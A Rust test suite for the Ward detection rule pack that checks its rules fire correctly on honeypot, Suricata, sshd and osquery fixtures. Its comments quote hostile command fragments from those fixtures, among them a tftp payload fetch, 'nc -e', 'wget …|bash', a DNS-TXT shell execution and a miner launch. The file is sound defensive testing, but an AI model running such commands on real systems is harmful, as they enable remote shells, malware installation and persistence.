//! Ward's default rule pack (`rules/` at the repository root): every rule loads and compiles
//! with the shipped pipelines, fires on each of its positive example events and stays silent on
//! its negative ones (correlations: fire on the positive sequence, not on the negative one), and
//! the whole pack fires exactly where it should on the committed real sensor fixtures.
//!
//! Examples live in `rules/ward/<area>/examples/<rule-file-stem>/` as
//! `{positive,negative}.<source>.<ext>`: raw records in the sensor's native format, `<source>`
//! naming the decoder (`cowrie`, `suricata`, `syslog`, `osquery`).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use ward_model::Event;
use ward_rules::correlate::{CorrelationAlert, Correlator, CorrelatorConfig, Observed};
use ward_rules::{Alert, Document, Engine, ReferenceEngine, RuleSet, Scratch, parse_source};

use super::common::{decode, pipeline};

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn rules_dir() -> PathBuf {
    root().join("rules")
}

/// The pack, compiled; panics on any load, compile or correlator rejection.
struct Pack {
    set: RuleSet,
    engine: Engine,
    reference: ReferenceEngine,
}

impl Pack {
    fn load() -> Self {
        let (set, rejections) = RuleSet::load(&[rules_dir()]);
        assert!(rejections.is_empty(), "rule pack rejections: {rejections:#?}");
        let pipeline = pipeline();
        let (engine, rejected) = Engine::compile(&set, &pipeline);
        assert!(rejected.is_empty(), "rules the shipped pipelines cannot route: {rejected:#?}");
        let (reference, rejected) = ReferenceEngine::new(&set, &pipeline);
        assert!(rejected.is_empty(), "{rejected:#?}");
        let (_, errors) = Correlator::new(&set, &CorrelatorConfig::default()).expect("default budget");
        assert!(errors.is_empty(), "correlations that cannot run: {errors:#?}");
        Self { set, engine, reference }
    }

    /// Base alerts of the whole pack over `events`, in event order; both evaluators must agree.
    fn alerts(&self, events: &[Event]) -> Vec<(usize, Alert)> {
        let mut scratch = Scratch::default();
        let mut out = Vec::new();
        for (i, event) in events.iter().enumerate() {
            let compiled = self.engine.matching_rules(event, &mut scratch);
            assert_eq!(compiled, self.reference.matching_rules(event), "evaluators disagree on {event:?}");
            let mut alerts = Vec::new();
            self.engine.matches_with(event, &mut scratch, &mut alerts);
            out.extend(alerts.into_iter().map(|a| (i, a)));
        }
        out
    }

    /// Correlation alerts of the pack over `events` (base alerts observed in event order, then
    /// flushed); no match may be late.
    fn correlations(&self, events: &[Event]) -> Vec<CorrelationAlert> {
        let (mut correlator, _) =
            Correlator::new(&self.set, &CorrelatorConfig::default()).expect("default budget");
        let mut out = Vec::new();
        // Event-time order: flow records are exported when a flow ends, not when it starts.
        let mut base = self.alerts(events);
        base.sort_by_key(|(i, _)| events[*i].timestamp());
        for (i, alert) in base {
            let observed = correlator.observe_alert(&alert, &events[i], &mut out);
            assert!(!matches!(observed, Observed::Late { .. }), "late match {alert:?}");
        }
        correlator.flush(&mut out);
        out
    }
}

fn kind(source: &str) -> ward_decode::SourceKind {
    source.parse().unwrap_or_else(|e| panic!("example names unknown source `{source}`: {e}"))
}

/// Decodes a file with the decoder its name (`x.<source>.<ext>`) or `source` gives.
fn decode_file(path: &Path, source: &str) -> Vec<Event> {
    let bytes = std::fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let events = decode(kind(source), &bytes);
    assert!(!events.is_empty(), "{} decodes to no event", path.display());
    events
}

/// One rule file and its examples.
struct RuleFile {
    path: PathBuf,
    /// The rule or correlation id.
    id: String,
    correlation: bool,
    /// `(positive?, source, path)`.
    examples: Vec<(bool, String, PathBuf)>,
}

fn rule_files() -> Vec<RuleFile> {
    let mut files = Vec::new();
    let ward = rules_dir().join("ward");
    let mut areas: Vec<PathBuf> =
        std::fs::read_dir(&ward).expect("rules/ward").flatten().map(|e| e.path()).collect();
    areas.sort();
    for area in areas.into_iter().filter(|p| p.is_dir()) {
        let mut ymls: Vec<PathBuf> = std::fs::read_dir(&area)
            .expect("area")
            .flatten()
            .map(|e| e.path())
            .filter(|p| p.extension().is_some_and(|e| e == "yml"))
            .collect();
        ymls.sort();
        for path in ymls {
            // Parsed alone (correlations name rules of other files): one document per file.
            let text = std::fs::read_to_string(&path).expect("rule file");
            let docs = parse_source(&path.display().to_string(), &text);
            assert_eq!(docs.len(), 1, "{}: one rule per file", path.display());
            let (id, correlation) = match docs.into_iter().next() {
                Some(Ok(Document::Rule(r))) => (r.meta.id, false),
                Some(Ok(Document::Correlation(c))) => (c.meta.id, true),
                other => panic!("{}: not a rule or correlation: {other:?}", path.display()),
            };
            let id = id.unwrap_or_else(|| panic!("{}: rule without id", path.display()));
            let stem = path.file_stem().and_then(|s| s.to_str()).expect("stem").to_owned();
            let dir = area.join("examples").join(&stem);
            let mut examples = Vec::new();
            for entry in
                std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display())).flatten()
            {
                let name = entry.file_name().to_string_lossy().into_owned();
                let parts: Vec<&str> = name.split('.').collect();
                assert_eq!(parts.len(), 3, "{name}: expected <positive|negative>.<source>.<ext>");
                let positive = match parts[0] {
                    "positive" => true,
                    "negative" => false,
                    other => panic!("{name}: `{other}` is neither positive nor negative"),
                };
                examples.push((positive, parts[1].to_owned(), entry.path()));
            }
            examples.sort();
            files.push(RuleFile { path, id, correlation, examples });
        }
    }
    files
}

#[test]
fn every_rule_loads_compiles_and_is_well_formed() {
    let pack = Pack::load();
    let files = rule_files();
    let detections = files.iter().filter(|f| !f.correlation).count();
    let correlations = files.len() - detections;
    assert_eq!(pack.set.rules().len(), detections);
    assert_eq!(pack.set.correlations().len(), correlations);
    assert_eq!((detections, correlations), (17, 6), "the pack documented in docs/rule-pack.md");
    assert_eq!(pack.engine.stats().rules, detections, "every rule routed by a shipped pipeline");
    let lint = ward_rules::lint::lint_set(&pack.set);
    assert!(lint.is_empty(), "`ward rules check --strict` findings: {lint:#?}");
    let metas = pack
        .set
        .rules()
        .iter()
        .map(|r| (&r.meta, &r.source.file))
        .chain(pack.set.correlations().iter().map(|c| (&c.meta, &c.source.file)));
    for (meta, file) in metas {
        let id = meta.id.as_deref().unwrap_or_else(|| panic!("{file}: no id"));
        let hex: String = id.chars().filter(|c| *c != '-').collect();
        assert!(
            id.len() == 36 && hex.len() == 32 && hex.chars().all(|c| c.is_ascii_hexdigit()),
            "{file}: id {id} is not a UUID"
        );
        assert_eq!(meta.author.as_deref(), Some("Ward"), "{file}");
        assert!(
            meta.status.is_some() && meta.date.is_some() && meta.description.is_some(),
            "{file}: status, date, description"
        );
        assert!(meta.level.is_some(), "{file}: level");
        assert!(!meta.falsepositives.is_empty(), "{file}: falsepositives");
        assert!(!meta.attack_techniques().is_empty(), "{file}: no ATT&CK technique tag");
    }
}

#[test]
fn every_rule_has_positive_and_negative_examples() {
    for file in rule_files() {
        let p = file.examples.iter().filter(|e| e.0).count();
        let n = file.examples.len() - p;
        assert!(p > 0 && n > 0, "{}: {p} positive and {n} negative example files", file.path.display());
    }
}

#[test]
fn detection_rules_fire_on_each_positive_event_and_never_on_a_negative_one() {
    let pack = Pack::load();
    let mut checked = 0;
    for file in rule_files().iter().filter(|f| !f.correlation) {
        for (positive, source, path) in &file.examples {
            let events = decode_file(path, source);
            let alerts = pack.alerts(&events);
            for (i, _) in events.iter().enumerate() {
                let fired = alerts.iter().any(|(at, a)| *at == i && a.rule.id == file.id);
                assert_eq!(fired, *positive, "{} on event {} of {}", file.id, i + 1, path.display());
                checked += 1;
            }
        }
    }
    assert!(checked >= 60, "only {checked} example events");
}

#[test]
fn correlations_fire_on_the_positive_sequence_and_not_on_the_negative_one() {
    let pack = Pack::load();
    for file in rule_files().iter().filter(|f| f.correlation) {
        for (positive, source, path) in &file.examples {
            let events = decode_file(path, source);
            let fired: Vec<_> =
                pack.correlations(&events).into_iter().filter(|a| a.rule.id == file.id).collect();
            let expected = usize::from(*positive);
            assert_eq!(fired.len(), expected, "{} on {}: {fired:#?}", file.id, path.display());
        }
    }
}

/// `rule id → alerts` of the pack's detection rules and correlations over a fixture.
fn counts(pack: &Pack, events: &[Event]) -> BTreeMap<String, usize> {
    let mut counts = BTreeMap::new();
    for (_, a) in pack.alerts(events) {
        *counts.entry(a.rule.title.clone()).or_insert(0) += 1;
    }
    for a in pack.correlations(events) {
        *counts.entry(a.rule.title.clone()).or_insert(0) += 1;
    }
    counts
}

fn expect(pairs: &[(&str, usize)]) -> BTreeMap<String, usize> {
    pairs.iter().map(|(k, v)| ((*k).to_owned(), *v)).collect()
}

/// The real Cowrie 3.1.4 log (148 records). Expected, from the raw file:
/// - 10 `cowrie.login.success`, 7 `cowrie.login.failed` (the telnet `exploit_success` is an
///   authentication event too, but not a login, so it is not counted);
/// - 25 `cowrie.command.input` (the `command.failed`/`command.success` echoes are not counted);
/// - 2 suspicious commands: `xmrig … stratum+tcp://pool.example:3333` and
///   `tftp -g -r mips.bin 203.0.113.50` (the plain `wget URL` and `curl -o` lines are not piped
///   into a shell; the download rule covers them);
/// - 3 downloads with a URL and a hash (x.sh, bot.bin, missing.sh); the 3 `file_download`
///   records without a URL are saved stdin/redirections, the `file_download.failed` has no hash;
/// - 2 SCP/SFTP uploads (rootkit.tgz, sftp-rootkit.tgz); 4 `direct-tcpip.request`s;
/// - SSH brute force once: the 7 failures all come from 127.0.0.1 within 15 s; the 5th
///   (19:10:22.592) fires it and resets the group, the remaining 2 do not reach 5 again;
/// - honeypot login after brute force once: `root`/`Summer2024` logs in 5 ms later;
/// - no password spraying: every failed login is for `root` (1 distinct user name).
#[test]
fn the_pack_on_the_real_cowrie_log() {
    let pack = Pack::load();
    let events = decode_file(&root().join("testdata/cowrie/cowrie.json"), "cowrie");
    assert_eq!(events.len(), 148);
    assert_eq!(
        counts(&pack, &events),
        expect(&[
            ("Honeypot Login Succeeded", 10),
            ("Honeypot Login Failed", 7),
            ("Honeypot Shell Command Executed", 25),
            ("Suspicious Command in Honeypot Session", 2),
            ("Malware Downloaded to Honeypot", 3),
            ("File Uploaded to Honeypot over SCP or SFTP", 2),
            ("SSH Port Forwarding Through Honeypot", 4),
            ("SSH Brute Force", 1),
            ("Honeypot Login After Brute Force", 1),
        ])
    );
}

/// The Suricata EVE sample (20 records, 3 alerts). Expected: the 2 severity-1 alerts ("ET
/// EXPLOIT Selenium Server Chrome 3.141.59 Remote Code Execution", "DNS - Transaction ID
/// problem, suricata"); the severity-3 "SURICATA HTTP unable to match response to request"
/// alert and the 17 other records (flow, dns, anomaly, http, tls…) raise nothing.
#[test]
fn the_pack_on_the_suricata_sample() {
    let pack = Pack::load();
    let events = decode_file(&root().join("testdata/suricata/eve-sample.json"), "suricata");
    assert_eq!(events.len(), 20);
    assert_eq!(counts(&pack, &events), expect(&[("Suricata High Severity Alert", 2)]));
}

/// The sshd auth.log fixture. Expected: 3 failures: "Failed password" for invalid user oracle
/// from 203.0.113.45, for root from 198.51.100.23, and the "message repeated 2 times: [ Failed
/// password for root … ]" line (the decoder reads the inner message; one event, though it stands
/// for two failures), plus the OpenSSH 9.8+ `sshd-session[2211]: Failed publickey` line, which
/// the `linux/sshd` logsource routes like `sshd`. 3 accepted logins (deploy, alice, carol).
/// Four failures do not make a brute force (5 are needed).
#[test]
fn the_pack_on_the_auth_log() {
    let pack = Pack::load();
    let events = decode_file(&root().join("testdata/syslog/auth.log"), "syslog");
    assert_eq!(
        counts(&pack, &events),
        expect(&[("SSH Authentication Failed", 4), ("SSH Login Accepted", 3)])
    );
}

/// The osquery fixtures. Panther's test events: 4 of the 6 crontab rows are malicious (`nc -e`,
/// `wget …|bash`, `wget -O /tmp/load.sh; chmod 777`, `sh -c $(dig … TXT)`), `run-parts` and
/// `runit 'go fast'` are not; none of the 5 shell_history rows (aws, tail, git) is suspicious.
/// The shapes fixture: 1 authorized key added (`attacker@kali` for root).
#[test]
fn the_pack_on_the_osquery_fixtures() {
    let pack = Pack::load();
    let mut events = decode_file(&root().join("testdata/osquery/panther_events.jsonl"), "osquery");
    events.extend(decode_file(&root().join("testdata/osquery/shapes.jsonl"), "osquery"));
    assert_eq!(
        counts(&pack, &events),
        expect(&[("Suspicious Crontab Entry Added", 4), ("SSH Authorized Key Added", 1)])
    );
}
